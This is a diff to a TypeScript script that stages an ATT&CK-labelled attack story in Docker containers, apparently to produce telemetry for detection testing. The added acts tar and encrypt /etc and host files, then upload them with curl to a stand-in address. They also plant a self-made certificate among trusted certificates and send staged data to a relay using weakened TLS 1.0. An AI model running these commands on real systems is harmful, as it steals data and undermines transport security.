@@ -1,5 +1,7 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { execFileSync } from 'node:child_process'
+import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
+import { dirname, join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
 import { IMAGES, type Stage } from './tour-stage.ts'
 
 /** One act of the story. */
@@ -21,6 +23,13 @@ const STRANGER = IMAGES.stranger[0]
 
 const PAGES = '/usr/share/nginx/html'
 const KEY = '/etc/nginx/tls/server.key'
+/** Where the shop's own proxy speaks TLS, and where the adversary's relay does. */
+export const TLS_PORT = 8443
+export const RELAY_PORT = 9443
+/** OpenSSL asks for its configuration, which the images do not have. */
+const CONFIG = "printf '[req]\\ndistinguished_name=dn\\n[dn]\\n' > /tmp/o.cnf"
+const MINT =
+  'openssl req -config /tmp/o.cnf -x509 -newkey rsa:2048 -nodes -keyout /tmp/k.pem -out /tmp/c.pem -days 365 -subj /CN=cdn.example'
 
 /** What runs before the recording begins: it is the inventory of the first start. */
 export async function setTheStage({ docker, start, do: words }: Stage): Promise<void> {
@@ -45,21 +54,41 @@ export async function setTheStage({ docker, start, do: words }: Stage): Promise<
   )
   const page = `mkdir -p ${PAGES} /etc/nginx/tls && echo '<h1>Shop</h1>' > ${PAGES}/index.html && exec httpd -f -p 80 -h ${PAGES}`
   await start('web', ['--network', 'shop', '-p', '8080:80'], NGINX, 'sh', '-c', page)
-  const folder = mkdtempSync('/run/key-')
-  try {
-    writeFileSync(
-      join(folder, 'server.key'),
-      '-----BEGIN PRIVATE KEY-----\nnone\n-----END PRIVATE KEY-----\n',
-    )
-    await docker.docker('cp', join(folder, 'server.key'), `web:${KEY}`)
-  } finally {
-    rmSync(folder, { recursive: true })
-  }
+  await withCertificate(async (key, certificate) => {
+    await docker.docker('cp', key, `web:${KEY}`)
+    const serve = `exec openssl s_server -accept ${TLS_PORT} -key /etc/tls/tls.key -cert /etc/tls/tls.crt -quiet`
+    await docker.docker('create', '--name', 'proxy', '--network', 'shop', NGINX, 'sh', '-c', serve)
+    const folder = dirname(key)
+    mkdirSync(join(folder, 'tls'))
+    copyFileSync(key, join(folder, 'tls/tls.key'))
+    copyFileSync(certificate, join(folder, 'tls/tls.crt'))
+    await docker.docker('cp', join(folder, 'tls'), 'proxy:/etc/tls')
+    await docker.docker('start', 'proxy')
+  })
   mkdirSync('/srv/project', { recursive: true })
 }
 
-/** What stays when the recording ends. */
-export const CAST = ['db', 'cache', 'api', 'web'] as const
+async function withCertificate(use: (key: string, certificate: string) => Promise<void>): Promise<void> {
+  const folder = mkdtempSync('/run/tour/key-')
+  const [key, certificate] = [join(folder, 'server.key'), join(folder, 'server.crt')]
+  try {
+    const words = [
+      'req',
+      '-x509',
+      '-newkey',
+      'rsa:2048',
+      '-nodes',
+      '-days',
+      '30',
+      '-subj',
+      '/CN=proxy.shop.example',
+    ]
+    execFileSync('openssl', [...words, '-keyout', key, '-out', certificate], { stdio: 'ignore' })
+    await use(key, certificate)
+  } finally {
+    rmSync(folder, { recursive: true })
+  }
+}
 
 const T1600 = 't1600-weaken-encryption'
 const T1491 = 't1491.001-internal-defacement'
@@ -89,6 +118,18 @@ export const STORY: readonly Act[] = [
       await inside('api', 'ls', '-l', '/tmp')
       await inside('api', 'openssl', 'version')
     },
+  },
+  {
+    at: 32,
+    by: 'shop',
+    what: 'the API asks the proxy, by TLS 1.3',
+    run: ({ inside }) =>
+      inside(
+        'api',
+        'sh',
+        '-c',
+        `echo | openssl s_client -connect proxy:${TLS_PORT} -brief >/dev/null 2>&1; sleep 1`,
+      ),
   },
   {
     at: 45,
@@ -148,16 +189,13 @@ export const STORY: readonly Act[] = [
   {
     at: 290,
     by: T1560,
-    what: 'a container with the host’s root and the host’s network, in which files are gathered and packed by a script',
+    what: 'a container with the host’s root and the host’s network, in which files are gathered, packed, encrypted and sent away',
     run: async ({ start, inside }) => {
       await start('maintenance', ['--network', 'host', '-v', '/:/host'], STRANGER, 'sleep', '7200')
-      const pack = [
-        'import os,zlib',
-        'data=b"".join(open(os.path.join("/host/etc",n),"rb").read() for n in ("hostname","hosts"))',
-        'packed=bytes(b^0x5a for b in zlib.compress(data))',
-        'open("/tmp/.cache.bin","wb").write(packed)',
-      ].join(';')
-      await inside('maintenance', 'python3', '-c', pack)
+      const gather = 'tar -czf /tmp/.cache.gz /etc /host/etc/hostname /host/etc/hosts'
+      const hide = 'openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/.cache.gz -out /tmp/.cache.bin'
+      const send = 'curl -m 1 -sT /tmp/.cache.bin http://198.51.100.20/'
+      await inside('maintenance', 'sh', '-c', `${gather}; ${hide}; ${send}; true`)
     },
   },
   {
@@ -171,24 +209,14 @@ export const STORY: readonly Act[] = [
     by: T1608,
     what: 'a certificate of their own, and a place among those that the host trusts',
     run: async ({ start, inside }) => {
-      await inside(
-        'maintenance',
-        'openssl',
-        'req',
-        '-x509',
-        '-newkey',
-        'rsa:2048',
-        '-nodes',
-        '-keyout',
-        '/tmp/k.pem',
-        '-out',
-        '/tmp/c.pem',
-        '-days',
-        '365',
-        '-subj',
-        '/CN=cdn.example',
-      )
+      await inside('maintenance', 'sh', '-c', `${CONFIG}; ${MINT}`)
       await start('trust', ['-v', '/usr/local/share/ca-certificates:/ca'], STRANGER, 'sleep', '7200')
+      await inside(
+        'trust',
+        'sh',
+        '-c',
+        `${CONFIG}; ${MINT}; mkdir -p /etc/ssl/certs; cp /tmp/c.pem /etc/ssl/certs/ca-cdn.crt`,
+      )
     },
   },
   {
@@ -213,8 +241,20 @@ export const STORY: readonly Act[] = [
         'stage',
         'sh',
         '-c',
-        'mkdir -p /stage/.x && head -c 65536 /dev/urandom > /stage/.x/part1.bin',
+        'mkdir -p /stage/.x /dev/shm/.x && head -c 65536 /dev/urandom > /dev/shm/.x/part1.bin && cp /dev/shm/.x/part1.bin /stage/.x/',
       )
+    },
+  },
+  {
+    at: 565,
+    by: T1600,
+    what: 'and sent on to a relay that speaks TLS 1.0',
+    run: async ({ start, inside }) => {
+      const serve = `exec openssl s_server -accept ${RELAY_PORT} -key /tmp/k.pem -cert /tmp/c.pem -quiet -tls1 -cipher ALL:@SECLEVEL=0`
+      await start('relay', ['--network', 'shop'], STRANGER, 'sh', '-c', `${CONFIG}; ${MINT}; ${serve}`)
+      await sleep(2_000)
+      const send = `(head -c 4096 /stage/.x/part1.bin; sleep 1) | openssl s_client -connect relay:${RELAY_PORT} -tls1 -cipher ALL:@SECLEVEL=0 >/dev/null 2>&1`
+      await inside('stage', 'sh', '-c', send)
     },
   },
   {
